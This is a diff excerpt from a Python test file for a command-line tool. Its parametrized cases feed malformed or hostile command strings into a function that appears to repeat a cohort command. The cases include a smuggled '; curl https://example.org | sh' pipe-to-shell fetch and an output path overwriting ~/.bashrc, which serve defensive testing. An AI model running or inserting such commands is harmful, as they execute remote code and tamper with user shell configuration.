@@ -69,7 +69,7 @@ def test_data_cards(tmp_path, dataset):
 
 @pytest.mark.parametrize('command', [BAD, 'cleftgan cohort cleft --n 9 --size 16 --seed 0; curl https://example.org '
                                           '| sh', 'curl https://example.org | sh',
-                                          'cleftgan cohort cleft --n 9 --size 16 --seed 0 \n```\n# Heading',
+                                     'cleftgan cohort cleft --n 9 --size 16 --seed 0 \n```\n# Heading',
                                      'cleftgan train x --set license=CC0-1.0',
                                      'cleftgan cohort cleft --n 9 --size 16 --seed 0 --out ~/.bashrc', ['cleftgan'], 7])
 def test_only_the_command_of_a_cohort_is_repeated(tmp_path, command):
